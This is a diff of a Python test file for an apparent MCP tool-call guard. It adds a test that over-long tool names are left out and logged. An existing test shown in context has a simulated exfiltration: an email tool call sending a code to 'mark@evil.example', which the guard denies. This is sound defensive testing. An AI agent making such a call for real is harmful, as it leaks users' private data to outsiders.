@@ -13,6 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import pytest
 from mcp.client.session import ClientSession
 from mcp.client.stdio import StdioServerParameters, stdio_client
 from mcp.shared.exceptions import MCPError
@@ -204,3 +205,30 @@ def test_requests_without_a_session_share_their_accounts_history(tmp_path: Path)
         refused = call(2, "srv__send_email", {"to": "mark@evil.example", "body": "771203"})
     assert refused["result"]["_meta"]["groundstate/decision"]["decision"] == "deny", refused
     assert [json.loads(line)["tool"] for line in effects.read_text().splitlines()] == ["read_inbox"]
+
+
+def test_a_tool_whose_name_is_longer_than_mcp_allows_is_left_out_and_said_so(tmp_path: Path) -> None:
+    """MCP's tool names are at most 128 characters (found by an attack: on PostgreSQL a 201-character name failed
+    every call to it in the ledger's insert). Such a tool is not listed, a call to it names no upstream tool, and
+    the guard's log says which was left out and why; the server's other tools are served."""
+    long_name = "t" * 201
+    configure(tmp_path, [tool(long_name, True, False), tool("short", True, False)], {})
+    env = {**os.environ, "GROUNDSTATE_HOME": str(tmp_path / "home"),
+           "GROUNDSTATE_CONFIG": str(tmp_path / "groundstate.toml")}  # fmt: skip
+    params = StdioServerParameters(command=sys.executable, args=["-m", "groundstate", "mcp", "serve"], env=env)
+
+    async def run() -> tuple[list[str], str]:
+        with (tmp_path / "guard.stderr").open("w") as errlog:
+            async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as client:
+                await client.initialize()
+                listed = [t.name for t in (await client.list_tools()).tools]
+                with pytest.raises(MCPError) as refused:
+                    await client.call_tool(f"srv__{long_name}", {})
+                return listed, refused.value.error.message
+
+    listed, message = asyncio.run(asyncio.wait_for(run(), 60))
+    assert listed == ["srv__short"]
+    assert "no upstream server lists the tool" in message
+    logged = (tmp_path / "guard.stderr").read_text()
+    assert "left out mcp.servers.srv: the tool 'tttt" in logged and "(its name is 201 characters; MCP's are at most " \
+        "128)" in logged  # fmt: skip
